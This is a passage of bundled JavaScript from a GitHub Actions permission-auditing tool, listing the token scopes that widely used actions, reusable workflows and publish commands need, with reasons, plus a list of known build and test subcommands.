            need('contents', 'write', 'submits the dependency graph', { input: 'dependency-graph', matches: 'submit' }),
        ],
    },
    {
        uses: 'gradle/actions/dependency-submission',
        summary: 'Submits the Gradle dependency graph.',
        token: tokenInput('github-token'),
        needs: [need('contents', 'write', 'submits the dependency graph')],
    },
    community_nothing('gradle/actions/wrapper-validation', 'Validates Gradle wrapper checksums.'),
    {
        uses: 'gradle/gradle-build-action',
        summary: 'Sets up Gradle (deprecated; use gradle/actions/setup-gradle).',
        token: tokenInput('github-token'),
        needs: [
            need('contents', 'write', 'submits the dependency graph', { input: 'dependency-graph', matches: 'submit' }),
        ],
    },
    community_nothing('gradle/wrapper-validation-action', 'Validates Gradle wrapper checksums (deprecated).'),
    {
        uses: 'crazy-max/ghaction-import-gpg',
        summary: 'Imports a GPG key.',
        needs: [],
    },
    {
        uses: 'step-security/harden-runner',
        summary: 'Monitors and restricts the egress of the runner.',
        token: tokenInput('token'),
        needs: [],
    },
    // Toolchains and utilities that never use the GITHUB_TOKEN for repository access.
    community_nothing('ruby/setup-ruby', 'Installs Ruby.'),
    community_nothing('pnpm/action-setup', 'Installs pnpm.'),
    {
        uses: 'oven-sh/setup-bun',
        summary: 'Installs Bun (the token only lifts download rate limits).',
        token: tokenInput('token'),
        needs: [],
    },
    community_nothing('denoland/setup-deno', 'Installs Deno.'),
    {
        uses: 'astral-sh/setup-uv',
        summary: 'Installs uv (the token only lifts download rate limits).',
        token: tokenInput('github-token'),
        needs: [],
    },
    community_nothing('hashicorp/setup-terraform', 'Installs Terraform.'),
    community_nothing('hashicorp/setup-packer', 'Installs Packer.'),
    community_nothing('dtolnay/rust-toolchain', 'Installs a Rust toolchain.'),
    community_nothing('actions-rs/toolchain', 'Installs a Rust toolchain (archived).'),
    community_nothing('actions-rs/cargo', 'Runs cargo (archived).'),
    community_nothing('swatinem/rust-cache', 'Caches Rust builds (runtime token).'),
    community_nothing('shivammathur/setup-php', 'Installs PHP.'),
    community_nothing('msys2/setup-msys2', 'Installs MSYS2.'),
    community_nothing('ilammy/msvc-dev-cmd', 'Sets up the MSVC developer environment.'),
    community_nothing('microsoft/setup-msbuild', 'Adds MSBuild to PATH.'),
    community_nothing('erlef/setup-beam', 'Installs Erlang/OTP and Elixir.'),
    community_nothing('mlugg/setup-zig', 'Installs Zig.'),
    community_nothing('goto-bus-stop/setup-zig', 'Installs Zig.'),
    community_nothing('conda-incubator/setup-miniconda', 'Installs Miniconda.'),
    community_nothing('mamba-org/setup-micromamba', 'Installs micromamba.'),
    community_nothing('julia-actions/setup-julia', 'Installs Julia.'),
    community_nothing('r-lib/actions/setup-r', 'Installs R.'),
    community_nothing('subosito/flutter-action', 'Installs Flutter.'),
    community_nothing('android-actions/setup-android', 'Installs the Android SDK.'),
    community_nothing('jdx/mise-action', 'Installs tools with mise.'),
    community_nothing('bufbuild/buf-setup-action', 'Installs buf.'),
    {
        uses: 'arduino/setup-protoc',
        summary: 'Installs protoc (the token only lifts download rate limits).',
        token: explicitInput('repo-token'),
        needs: [],
    },
    community_nothing('pre-commit/action', 'Runs pre-commit hooks.'),
    community_nothing('sigstore/cosign-installer', 'Installs cosign.'),
    community_nothing('anchore/scan-action', 'Scans images or SBOMs with Grype.'),
    community_nothing('aquasecurity/trivy-action', 'Scans with Trivy.'),
    community_nothing('aquasecurity/setup-trivy', 'Installs Trivy.'),
    community_nothing('snyk/actions', 'Runs Snyk (Snyk token only).'),
    community_nothing('returntocorp/semgrep-action', 'Runs Semgrep (deprecated).'),
    community_nothing('microsoft/security-devops-action', 'Runs Microsoft Security DevOps analyzers.'),
    community_nothing('raven-actions/actionlint', 'Runs actionlint.'),
    community_nothing('cachix/install-nix-action', 'Installs Nix.'),
    community_nothing('cachix/cachix-action', 'Configures a Cachix binary cache.'),
    community_nothing('determinatesystems/nix-installer-action', 'Installs Nix.'),
    community_nothing('mxschmitt/action-tmate', 'Opens a tmate debugging session.'),
    community_nothing('nick-fields/retry', 'Retries a command.'),
    community_nothing('slackapi/slack-github-action', 'Posts to Slack.'),
    community_nothing('rtcamp/action-slack-notify', 'Posts to Slack.'),
    community_nothing('appleboy/ssh-action', 'Runs commands over SSH.'),
    community_nothing('appleboy/scp-action', 'Copies files over SSH.'),
    community_nothing('burnett01/rsync-deployments', 'Deploys with rsync.'),
    community_nothing('helm/kind-action', 'Creates a kind cluster.'),
    community_nothing('helm/chart-testing-action', 'Installs chart-testing.'),
    community_nothing('jakejarvis/s3-sync-action', 'Syncs a folder to S3.'),
    community_nothing('browser-actions/setup-chrome', 'Installs Chrome.'),
    community_nothing('nanasess/setup-chromedriver', 'Installs chromedriver.'),
    community_nothing('engineerd/setup-kind', 'Installs kind.'),
    community_nothing('docker-practice/actions-setup-docker', 'Installs Docker on macOS.'),
    community_nothing('crazy-max/ghaction-setup-docker', 'Installs Docker.'),
    community_nothing('tibdex/github-app-token', "Mints a GitHub App token from the app's key (archived)."),
];

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/github.ts

/** GitHub's own actions: `actions/*` and `github/*`. */
const githubActions = [
    {
        uses: 'actions/checkout',
        summary: 'Clones the repository into the workspace.',
        token: tokenInput('token'),
        needs: [need('contents', 'read', 'clones the repository')],
    },
    { uses: 'actions/setup-node', summary: 'Installs Node.js.', token: tokenInput('token'), needs: [] },
    { uses: 'actions/setup-python', summary: 'Installs Python.', token: tokenInput('token'), needs: [] },
    { uses: 'actions/setup-go', summary: 'Installs Go.', token: tokenInput('token'), needs: [] },
    { uses: 'actions/setup-java', summary: 'Installs a JDK.', token: tokenInput('token'), needs: [] },
    { uses: 'actions/setup-dotnet', summary: 'Installs the .NET SDK.', needs: [] },
    { uses: 'actions/setup-haskell', summary: 'Installs GHC and Cabal (deprecated).', needs: [] },
    { uses: 'actions/setup-ruby', summary: 'Installs Ruby (deprecated; use ruby/setup-ruby).', needs: [] },
    { uses: 'actions/setup-elixir', summary: 'Installs Elixir (deprecated).', needs: [] },
    { uses: 'actions/cache', summary: 'Caches files between runs through the cache service (runtime token).', needs: [] },
    { uses: 'actions/cache/restore', summary: 'Restores a cache (runtime token).', needs: [] },
    { uses: 'actions/cache/save', summary: 'Saves a cache (runtime token).', needs: [] },
    { uses: 'actions/upload-artifact', summary: 'Uploads an artifact of this run (runtime token).', needs: [] },
    { uses: 'actions/upload-artifact/merge', summary: 'Merges artifacts of this run (runtime token).', needs: [] },
    {
        uses: 'actions/download-artifact',
        majors: [4],
        summary: 'Downloads artifacts; with github-token, from another run or repository.',
        token: explicitInput('github-token'),
        needs: [need('actions', 'read', 'lists and downloads artifacts of another workflow run')],
    },
    {
        uses: 'actions/download-artifact',
        majors: [1, 3],
        summary: 'Downloads artifacts of this run (runtime token).',
        needs: [],
    },
    { uses: 'actions/upload-pages-artifact', summary: 'Packs the site as a Pages artifact (runtime token).', needs: [] },
    {
        uses: 'actions/deploy-pages',
        summary: 'Deploys a Pages artifact to GitHub Pages.',
        token: tokenInput('token'),
        needs: [
            need('pages', 'write', 'creates the Pages deployment'),
            oidc('proves the deployment comes from this workflow with an OIDC token'),
        ],
    },
    {
        uses: 'actions/configure-pages',
        summary: 'Reads the Pages site configuration (base URL, origin).',
        token: tokenInput('token'),
        needs: [
            need('pages', 'read', 'reads the Pages site configuration'),
            need('pages', 'write', 'enables Pages for the repository', isTrue('enablement')),
        ],
    },
    {
        uses: 'actions/jekyll-build-pages',
        summary: 'Builds a Jekyll site with the github-pages gem.',
        token: tokenInput('token'),
        needs: [need('contents', 'read', 'reads repository metadata for site.github')],
    },
    {
        uses: 'actions/github-script',
        summary: 'Runs a JavaScript snippet with an authenticated octokit client.',
        token: tokenInput('github-token'),
        needs: [],
        analyze: { kind: 'github-script', input: 'script' },
    },
    {
        uses: 'actions/labeler',
        summary: 'Labels pull requests by the files they change.',
        token: tokenInput('repo-token'),
        needs: [
            need('contents', 'read', 'reads the labeler configuration file'),
            need('pull-requests', 'write', 'adds and removes labels on pull requests'),
        ],
    },
    {
        uses: 'actions/stale',
        summary: 'Marks and closes stale issues and pull requests.',
        token: tokenInput('repo-token'),
        defaults: { 'delete-branch': 'false' },
        needs: [
            need('issues', 'write', 'labels, comments on and closes stale issues'),
            need('pull-requests', 'write', 'labels, comments on and closes stale pull requests'),
            need('actions', 'write', 'deletes its saved state cache between runs'),
            need('contents', 'write', 'deletes the branch of a closed pull request', isTrue('delete-branch')),
        ],
    },
    {
        uses: 'actions/first-interaction',
        summary: "Greets a contributor's first issue or pull request.",
        token: tokenInput('repo-token'),
        needs: [
            need('issues', 'write', 'comments on the first issue'),
            need('pull-requests', 'write', 'comments on the first pull request'),
        ],
    },
    {
        uses: 'actions/dependency-review-action',
        summary: 'Fails pull requests that add vulnerable or disallowed dependencies.',
        token: tokenInput('repo-token'),
        defaults: { 'comment-summary-in-pr': 'never' },
        needs: [
            need('contents', 'read', 'compares the dependency graph of base and head'),
            need('pull-requests', 'write', 'posts the review summary as a comment', {
                input: 'comment-summary-in-pr',
                notOneOf: ['never', 'false'],
            }),
        ],
    },
    {
        uses: 'actions/attest-build-provenance',
        summary: 'Signs SLSA build provenance for artifacts and stores it as an attestation.',
        token: tokenInput('github-token'),
        needs: [
            oidc('gets the OIDC token Sigstore certifies'),
            need('attestations', 'write', 'stores the attestation through the attestations API'),
            need('packages', 'write', 'pushes the attestation to the image registry', isTrue('push-to-registry')),
            need('artifact-metadata', 'write', 'records the artifact in storage records', {
                input: 'create-storage-record',
                oneOf: ['true'],
            }),
        ],
    },
    {
        uses: 'actions/attest',
        summary: 'Signs an in-toto statement and stores it as an attestation.',
        token: tokenInput('github-token'),
        needs: [
            oidc('gets the OIDC token Sigstore certifies'),
            need('attestations', 'write', 'stores the attestation through the attestations API'),
            need('packages', 'write', 'pushes the attestation to the image registry', isTrue('push-to-registry')),
            need('artifact-metadata', 'write', 'records the artifact in storage records', {
                input: 'create-storage-record',
                oneOf: ['true'],
            }),
        ],
    },
    {
        uses: 'actions/attest-sbom',
        summary: 'Signs an SBOM attestation for artifacts.',
        token: tokenInput('github-token'),
        needs: [
            oidc('gets the OIDC token Sigstore certifies'),
            need('attestations', 'write', 'stores the attestation through the attestations API'),
            need('packages', 'write', 'pushes the attestation to the image registry', isTrue('push-to-registry')),
        ],
    },
    {
        uses: 'actions/create-release',
        summary: 'Creates a GitHub release (archived).',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [need('contents', 'write', 'creates the release and its tag')],
    },
    {
        uses: 'actions/upload-release-asset',
        summary: 'Uploads a file to a release (archived).',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [need('contents', 'write', 'uploads the release asset')],
    },
    {
        uses: 'actions/add-to-project',
        summary: 'Adds issues and pull requests to a Projects (v2) board; needs a PAT or app token, the GITHUB_TOKEN cannot reach projects.',
        token: explicitInput('github-token'),
        needs: [
            need('repository-projects', 'write', 'adds the item to a project (only works for classic repository projects with the GITHUB_TOKEN)'),
        ],
    },
    {
        uses: 'actions/delete-package-versions',
        summary: 'Deletes old versions of a GitHub package.',
        token: tokenInput('token'),
        needs: [need('packages', 'write', 'deletes package versions')],
    },
    {
        uses: 'actions/ai-inference',
        summary: 'Calls a model through GitHub Models.',
        token: tokenInput('token'),
        needs: [need('models', 'read', 'calls the GitHub Models inference API')],
    },
    {
        uses: 'actions/create-github-app-token',
        summary: "Mints a GitHub App installation token from the app's private key (does not use the GITHUB_TOKEN).",
        needs: [],
    },
    {
        uses: 'actions/go-dependency-submission',
        summary: "Submits a Go module's dependency graph.",
        token: tokenInput('token'),
        needs: [need('contents', 'write', 'submits a dependency snapshot')],
    },
    {
        uses: 'actions/publish-action',
        summary: 'Moves the major-version tag of an action to the new release.',
        token: tokenInput('token'),
        needs: [need('contents', 'write', 'updates the major-version tag')],
    },
    {
        uses: 'actions/publish-immutable-action',
        summary: 'Publishes an action as an immutable OCI package.',
        token: tokenInput('github-token'),
        needs: [
            need('contents', 'read', 'reads the release being published'),
            need('packages', 'write', 'pushes the action package'),
            oidc('signs the package provenance'),
        ],
    },
    {
        uses: 'github/codeql-action/init',
        summary: 'Starts a CodeQL analysis.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'read', 'reads the repository and its CodeQL configuration'),
            need('actions', 'read', 'reads the workflow run to build the analysis key (private repositories)'),
            need('security-events', 'write', 'sends status reports to code scanning'),
        ],
    },
    {
        uses: 'github/codeql-action/autobuild',
        summary: 'Builds compiled languages for CodeQL.',
        token: tokenInput('token'),
        needs: [need('security-events', 'write', 'sends status reports to code scanning')],
    },
    {
        uses: 'github/codeql-action/analyze',
        summary: 'Finishes a CodeQL analysis and uploads the results.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'read', 'reads the repository'),
            need('actions', 'read', 'reads the workflow run to build the analysis key (private repositories)'),
            need('security-events', 'write', 'uploads the SARIF results to code scanning'),
        ],
    },
    {
        uses: 'github/codeql-action/upload-sarif',
        summary: 'Uploads a SARIF file to code scanning.',
        token: tokenInput('token'),
        needs: [
            need('actions', 'read', 'reads the workflow run to build the analysis key (private repositories)'),
            need('security-events', 'write', 'uploads the SARIF file to code scanning'),
        ],
    },
    {
        uses: 'github/codeql-action/resolve-environment',
        summary: 'Works out the build environment CodeQL needs.',
        token: tokenInput('token'),
        needs: [need('contents', 'read', 'reads the repository')],
    },
    {
        uses: 'github/codeql-action/start-proxy',
        summary: 'Starts a proxy for private registries used during analysis.',
        token: tokenInput('token'),
        needs: [],
    },
    {
        uses: 'github/super-linter',
        summary: 'Runs many linters over the repository.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [
            need('contents', 'read', 'reads the changed files'),
            need('statuses', 'write', 'reports each linter as a commit status'),
        ],
    },
    {
        uses: 'github/issue-labeler',
        summary: 'Labels issues by regular expressions on their body.',
        token: explicitInput('repo-token'),
        needs: [
            need('contents', 'read', 'reads the labeler configuration file'),
            need('issues', 'write', 'adds labels to issues'),
        ],
    },
    {
        uses: 'github/combine-prs',
        summary: 'Combines several dependency pull requests into one.',
        token: tokenInput('github_token'),
        needs: [
            need('contents', 'write', 'creates the combined branch'),
            need('pull-requests', 'write', 'opens the combined pull request'),
            need('checks', 'read', 'reads the checks of each pull request'),
        ],
    },
    {
        uses: 'github/stale-repos',
        summary: 'Reports inactive repositories of an organization (needs an org-scoped token).',
        token: tokenEnv('GH_TOKEN'),
        needs: [need('contents', 'read', 'reads repository activity')],
    },
    {
        uses: 'github/branch-deploy',
        summary: 'Deploys a branch from a pull request comment command.',
        token: tokenInput('github_token'),
        needs: [
            need('pull-requests', 'write', 'reacts to and comments on the pull request'),
            need('deployments', 'write', 'creates deployments and their statuses'),
            need('contents', 'write', 'creates and reads lock branches'),
            need('checks', 'read', 'reads the checks of the pull request'),
            need('statuses', 'read', 'reads the commit statuses of the pull request'),
        ],
    },
    {
        uses: 'github/accessibility-alt-text-bot',
        summary: 'Comments when images lack alt text.',
        token: tokenInput('token'),
        needs: [
            need('issues', 'write', 'comments on issues'),
            need('pull-requests', 'write', 'comments on pull requests'),
            need('discussions', 'write', 'comments on discussions'),
        ],
    },
    {
        uses: 'github/ossar-action',
        summary: 'Runs Microsoft open-source static analysis (deprecated).',
        needs: [],
    },
];

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/paved-road.ts

/** This suite's own actions: what each needs, from their action.yml. */
const pavedRoadActions = [
    {
        uses: 'paved-road/paved-road/actions/harden-permissions',
        summary: 'Audits workflow permissions and dangerous patterns; fixes them in the workspace.',
        token: explicitInput('github-token'),
        needs: [need('contents', 'read', 'reads reusable workflows called from other repositories')],
    },
    {
        uses: 'paved-road/paved-road/actions/verify-pinned-tools',
        summary: 'Audits that actions, images and tools are pinned; resolves refs to SHAs.',
        token: explicitInput('github-token'),
        needs: [need('contents', 'read', 'resolves tags and branches to commit SHAs')],
    },
    {
        uses: 'paved-road/paved-road/actions/generate-sbom',
        summary: 'Writes a CycloneDX SBOM from lockfiles.',
        needs: [],
    },
    {
        uses: 'paved-road/paved-road/actions/attest-provenance',
        summary: 'Signs SLSA provenance (and the SBOM) with Sigstore and stores the attestations.',
        token: { input: 'github-token', defaultsToGithubToken: true },
        needs: [
            oidc('gets the OIDC token Sigstore certifies'),
            need('attestations', 'write', 'stores the attestations through the attestations API'),
        ],
    },
    {
        uses: 'paved-road/paved-road/actions/verify-release',
        summary: 'The admission gate: verifies attestations of an artifact against the policy.',
        token: { input: 'github-token', defaultsToGithubToken: true },
        needs: [need('attestations', 'read', 'reads the attestations of the artifact')],
    },
    {
        uses: 'paved-road/paved-road/.github/workflows/release.yml',
        summary: 'The release as one reusable workflow: audit, isolated build, signed provenance and SBOM, verify, publish.',
        token: { always: true },
        needs: [
            need('contents', 'write', 'checks out the source; the publish job uploads the release assets'),
            oidc('keyless Sigstore signing of the provenance and SBOM (provenance job only)'),
            need('attestations', 'write', "stores the attestations with GitHub's attestations API"),
        ],
    },
    {
        uses: 'paved-road/paved-road/.github/workflows/deploy-gate.yml',
        summary: 'The admission gate before a deploy, as a reusable workflow.',
        token: { always: true },
        needs: [need('attestations', 'read', "reads the artifact's attestations back")],
    },
];

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/workflows.ts

const caller = { always: true };
/**
 * Widely used reusable workflows in other repositories (`uses:` on a job). A called workflow runs with
 * the caller job's token, so what it needs must be granted by the caller.
 */
const reusableWorkflows = [
    {
        uses: 'slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml',
        summary: 'SLSA 3 provenance for arbitrary artifacts.',
        token: caller,
        needs: [
            need('actions', 'read', 'reads the calling workflow run to describe the build'),
            oidc('signs the provenance with Sigstore'),
            need('contents', 'write', 'uploads the provenance to the release (upload-assets)'),
        ],
    },
    {
        uses: 'slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml',
        summary: 'SLSA 3 provenance for container images.',
        token: caller,
        needs: [
            need('actions', 'read', 'reads the calling workflow run to describe the build'),
            oidc('signs the provenance with Sigstore'),
            need('packages', 'write', 'pushes the provenance next to the image'),
        ],
    },
    {
        uses: 'slsa-framework/slsa-github-generator/.github/workflows/builder_go_slsa3.yml',
        summary: 'Builds a Go binary with SLSA 3 provenance.',
        token: caller,
        needs: [
            need('actions', 'read', 'reads the calling workflow run to describe the build'),
            oidc('signs the provenance with Sigstore'),
            need('contents', 'write', 'uploads the binary and provenance to the release'),
        ],
    },
    {
        uses: 'slsa-framework/slsa-github-generator/.github/workflows/builder_nodejs_slsa3.yml',
        summary: 'Builds an npm package with SLSA 3 provenance.',
        token: caller,
        needs: [
            need('actions', 'read', 'reads the calling workflow run to describe the build'),
            oidc('signs the provenance with Sigstore'),
            need('contents', 'read', 'checks out the repository'),
        ],
    },
];

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/types.ts
/**
 * The token-permission knowledge base: what each widely used action needs from the GITHUB_TOKEN,
 * why, and how the token reaches it. Written here from each action's own action.yml and docs.
 */
/**
 * Every scope a workflow's `permissions:` map may name, with the levels GitHub accepts for it
 * (from the official workflow schema shipped in @actions/workflow-parser).
 */
const SCOPE_LEVELS = {
    actions: ['read', 'write'],
    'artifact-metadata': ['read', 'write'],
    attestations: ['read', 'write'],
    checks: ['read', 'write'],
    'code-quality': ['read', 'write'],
    contents: ['read', 'write'],
    'copilot-requests': ['write'],
    deployments: ['read', 'write'],
    discussions: ['read', 'write'],
    drives: ['read', 'write'],
    'id-token': ['write'],
    issues: ['read', 'write'],
    models: ['read'],
    packages: ['read', 'write'],
    pages: ['read', 'write'],
    'pull-requests': ['read', 'write'],
    'repository-projects': ['read', 'write'],
    'security-events': ['read', 'write'],
    statuses: ['read', 'write'],
    'vulnerability-alerts': ['read'],
};
const SCOPES = Object.keys(SCOPE_LEVELS).sort();
function isScope(name) {
    return Object.prototype.hasOwnProperty.call(SCOPE_LEVELS, name);
}

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/commands.ts
const NPM_OIDC = 'may publish by npm trusted publishing (npm 11.5.1+ exchanges an OIDC token, no flag) or sign provenance';
const COMMAND_KNOWLEDGE = [
    {
        command: 'npm publish',
        programs: ['npm'],
        words: ['publish'],
        summary: 'Publishes a package to the npm registry.',
        oidc: NPM_OIDC,
        source: 'https://docs.npmjs.com/trusted-publishers',
    },
    {
        command: 'pnpm publish',
        programs: ['pnpm'],
        words: ['publish'],
        summary: 'Publishes one package or, with -r, every workspace package.',
        oidc: NPM_OIDC,
        source: 'https://pnpm.io/cli/publish',
    },
    {
        command: 'yarn npm publish',
        programs: ['yarn'],
        words: ['npm', 'publish'],
        summary: 'Publishes the package with Yarn 2+.',
        oidc: NPM_OIDC,
        source: 'https://yarnpkg.com/cli/npm/publish',
    },
    {
        command: 'yarn publish',
        programs: ['yarn'],
        words: ['publish'],
        summary: 'Publishes the package with Yarn 1 (through the npm registry).',
        oidc: NPM_OIDC,
        source: 'https://classic.yarnpkg.com/lang/en/docs/cli/publish/',
    },
    {
        command: 'bun publish',
        programs: ['bun'],
        words: ['publish'],
        summary: 'Publishes the package to the npm registry.',
        oidc: NPM_OIDC,
        source: 'https://bun.sh/docs/cli/publish',
    },
    {
        command: 'changeset publish',
        programs: ['changeset', 'changesets'],
        words: ['publish'],
        summary: 'Publishes every unpublished package with npm (publishConfig.provenance signs provenance).',
        oidc: 'runs npm publish for each package: trusted publishing or publishConfig.provenance use an OIDC token',
        source: 'https://github.com/changesets/changesets/blob/main/docs/command-line-options.md',
    },
    {
        command: 'semantic-release',
        programs: ['semantic-release'],
        words: [],
        summary: 'Tags, releases and publishes from conventional commits.',
        oidc: 'its npm plugin publishes with trusted publishing or provenance (OIDC)',
        pushes: 'pushes the release tag with git',
        withToken: [
            { scope: 'contents', level: 'write', reason: 'publishes the GitHub release (semantic-release)' },
            { scope: 'issues', level: 'write', reason: 'comments on released issues (semantic-release)' },
            { scope: 'pull-requests', level: 'write', reason: 'comments on released pull requests (semantic-release)' },
        ],
        source: 'https://semantic-release.gitbook.io/semantic-release/recipes/ci-configurations/github-actions',
    },
    {
        command: 'release-please',
        programs: ['release-please'],
        words: [],
        summary: 'Opens release pull requests and creates releases through the API.',
        withToken: [
            { scope: 'contents', level: 'write', reason: 'creates releases and tags (release-please)' },
            { scope: 'pull-requests', level: 'write', reason: 'opens the release pull request (release-please)' },
            { scope: 'issues', level: 'write', reason: 'labels the release pull request (release-please)' },
        ],
        source: 'https://github.com/googleapis/release-please/blob/main/docs/cli.md',
    },
    {
        command: 'goreleaser release',
        programs: ['goreleaser'],
        words: [],
        notWords: ['build', 'check', 'healthcheck', 'init', 'jsonschema', 'completion', 'help', 'man', 'changelog'],
        summary: 'Builds, signs (cosign keyless) and publishes a Go release.',
        oidc: 'its signs / docker_signs steps run cosign keyless (OIDC)',
        withToken: [
            { scope: 'contents', level: 'write', reason: 'creates the GitHub release and uploads assets (goreleaser)' },
            { scope: 'packages', level: 'write', reason: 'pushes images to ghcr.io when configured (goreleaser)' },
        ],
        source: 'https://goreleaser.com/ci/actions/',
    },
    {
        command: 'cargo publish',
        programs: ['cargo'],
        words: ['publish'],
        summary: 'Uploads a crate to crates.io.',
        oidc: 'crates.io trusted publishing exchanges an OIDC token for the publish token',
        source: 'https://crates.io/docs/trusted-publishing',
    },
    {
        command: 'twine upload',
        programs: ['twine'],
        words: ['upload'],
        summary: 'Uploads Python distributions to PyPI.',
        oidc: 'twine 6.1+ publishes by PyPI trusted publishing (OIDC) when no credentials are given',
        source: 'https://docs.pypi.org/trusted-publishers/using-a-publisher/',
    },
    {
        command: 'uv publish',
        programs: ['uv'],
        words: ['publish'],
        summary: 'Uploads Python distributions to PyPI.',
        oidc: 'publishes by PyPI trusted publishing (OIDC) unless credentials are given',
        source: 'https://docs.astral.sh/uv/guides/package/#publishing-your-package',
    },
    {
        command: 'gem push',
        programs: ['gem'],
        words: ['push'],
        summary: 'Uploads a gem to RubyGems.org.',
        oidc: 'RubyGems trusted publishing exchanges an OIDC token for the API key',
        source: 'https://guides.rubygems.org/trusted-publishing/',
    },
    {
        command: 'mkdocs gh-deploy',
        programs: ['mkdocs'],
        words: ['gh-deploy'],
        summary: 'Builds the site and pushes it to the gh-pages branch.',
        pushes: 'pushes the built site to the gh-pages branch with git',
        source: 'https://www.mkdocs.org/user-guide/deploying-your-docs/',
    },
    ...['deploy', 'set-default', 'alias', 'retitle', 'delete'].map((word) => ({
        command: `mike ${word} --push`,
        programs: ['mike'],
        words: [word],
        anyOption: ['--push', '-p'],
        summary: 'Commits a documentation version to gh-pages and pushes it.',
        pushes: 'pushes the documentation branch with git',
        source: 'https://github.com/jimporter/mike#deploying-via-ci',
    })),
    {
        command: 'gh-pages',
        programs: ['gh-pages'],
        words: [],
        summary: 'Commits a folder to the gh-pages branch and pushes it.',
        pushes: 'pushes the folder to the gh-pages branch with git',
        source: 'https://github.com/tschaub/gh-pages#command-line-utility',
    },
    ...[
        ['docker', 'push'],
        ['docker', 'image', 'push'],
        ['docker', 'manifest', 'push'],
        ['podman', 'push'],
    ].map(([program, ...words]) => ({
        command: `${program} ${words.join(' ')}`,
        programs: [program],
        words,
        summary: 'Pushes an image with the credentials of an earlier login.',
        oidc: 'a registry login earlier in the job (cloud OIDC, ghcr.io with the token) is what it pushes with',
        source: 'https://docs.docker.com/reference/cli/docker/image/push/',
    })),
    ...[['buildx', 'build'], ['buildx', 'bake'], ['build']].map((words) => ({
        command: `docker ${words.join(' ')} --push`,
        programs: ['docker'],
        words,
        anyOption: ['--push'],
        summary: 'Builds and pushes an image with the credentials of an earlier login.',
        oidc: 'a registry login earlier in the job (cloud OIDC, ghcr.io with the token) is what it pushes with',
        source: 'https://docs.docker.com/reference/cli/docker/buildx/build/#push',
    })),
    {
        command: 'docker buildx imagetools create',
        programs: ['docker'],
        words: ['buildx', 'imagetools', 'create'],
        summary: 'Writes a multi-platform manifest to the registry.',
        oidc: 'a registry login earlier in the job (cloud OIDC, ghcr.io with the token) is what it pushes with',
        source: 'https://docs.docker.com/reference/cli/docker/buildx/imagetools/create/',
    },
    {
        command: 'helm push',
        programs: ['helm'],
        words: ['push'],
        summary: 'Pushes a chart to an OCI registry with the credentials of an earlier login.',
        oidc: 'a registry login earlier in the job (cloud OIDC, ghcr.io with the token) is what it pushes with',
        source: 'https://helm.sh/docs/topics/registries/',
    },
];
/**
 * Tools and subcommands that build, test or inspect and publish nothing: a step made of these (and
 * of the commands the analysis reads itself) is explained. Anything else is code the audit cannot
 * read. Package managers are listed by subcommand: `npm run x` runs a script of the repository.
 */
const KNOWN_TOOLS = {
    npm: [
        'ci',
        'install',
        'i',
        'install-ci-test',
        'test',
        't',
        'audit',
        'ls',
        'list',
        'outdated',
        'pack',
        'version',
        'config',
        'cache',
        'view',
        'info',
        'whoami',
        'prune',
        'dedupe',
        'fund',
        'doctor',
        'help',
        'init',
        'update',
        'explain',
        'query',
        'sbom',
        'pkg',
        'ping',
        'root',
        'prefix',
        'bin',
    ],
    pnpm: [
        'install',
        'i',
        'add',
        'remove',
        'rm',
        'update',
        'up',
        'test',
        't',
        'audit',
        'list',
        'ls',
        'outdated',
        'pack',
        'fetch',
        'store',
        'why',
        'config',
        'prune',
        'dedupe',
        'licenses',
        'env',
        'setup',
        'root',
        'bin',
        'version',
    ],
    yarn: [
        'install',
        'add',
        'remove',
        'test',
        'audit',
        'list',
        'info',
        'why',
        'cache',
        'config',
        'pack',
        'version',
        'licenses',
        'dedupe',
        'up',
        'upgrade',
        'outdated',
        'check',
        'set',
        'plugin',
        'workspaces',
    ],
    bun: ['install', 'i', 'add', 'remove', 'test', 'pm', 'outdated', 'upgrade', 'update', 'audit', 'pack'],
    go: [
        'build',
        'test',
        'vet',
        'mod',
        'fmt',
        'version',
        'env',
        'list',
        'install',
        'get',
        'work',
        'clean',
        'doc',
        'help',
    ],
    cargo: [
        'build',
        'b',
        'test',
        't',
        'check',
        'c',
        'clippy',
        'fmt',
        'doc',
        'bench',
        'fetch',
        'metadata',
        'tree',
        'install',
        'update',
        'generate-lockfile',
        'package',
        'vendor',
        'deny',
        'audit',
        'nextest',
        'llvm-cov',
        'hack',
        'machete',
        'version',
        'clean',
        'login',
    ],
    pip: [
        'install',
        'download',
        'freeze',
        'list',
        'show',
        'check',
        'wheel',
        'cache',
        'config',
        'hash',
        'uninstall',
        'inspect',
    ],
    pip3: [
        'install',
        'download',
        'freeze',
        'list',
        'show',
        'check',
        'wheel',
        'cache',
        'config',
        'hash',
        'uninstall',
        'inspect',
    ],
    pipx: ['install', 'list', 'upgrade', 'ensurepath'],
    poetry: ['install', 'build', 'lock', 'check', 'show', 'version', 'config', 'env', 'add', 'export', 'self', 'sync'],
    uv: ['sync', 'lock', 'pip', 'venv', 'build', 'python', 'tool', 'export', 'tree', 'version', 'add', 'cache', 'self'],
    hatch: ['build', 'version', 'env', 'dep', 'fmt'],
    gem: ['install', 'build', 'list', 'env', 'update', 'uninstall', 'sources', 'which', 'info', 'specification'],
    bundle: [
        'install',
        'config',
        'lock',
        'update',
        'check',
        'list',
        'show',
        'outdated',
        'cache',
        'package',
        'platform',
        'binstubs',
    ],
    gh: true, // read by the analysis itself: it needs a token to do anything
    git: true, // read by the analysis itself
    curl: true, // read by the analysis itself
    wget: true,
    docker: [
        'build',
        'pull',
        'run',
        'container',
        'images',
        'image',
        'inspect',
        'tag',
        'save',
        'load',
        'ps',
        'logs',
        'compose',
        'volume',
        'network',
        'info',
        'version',
        'buildx',
        'exec',
        'stop',
        'rm',
        'rmi',
        'create',
        'cp',
        'system',
        'context',
        'login',
        'logout',
        'manifest',
    ],
    helm: ['lint', 'template', 'package', 'dependency', 'dep', 'repo', 'version', 'show', 'registry'],
    cosign: true, // read by the analysis itself
    sigstore: true,
    gitsign: true,
    codeql: true,
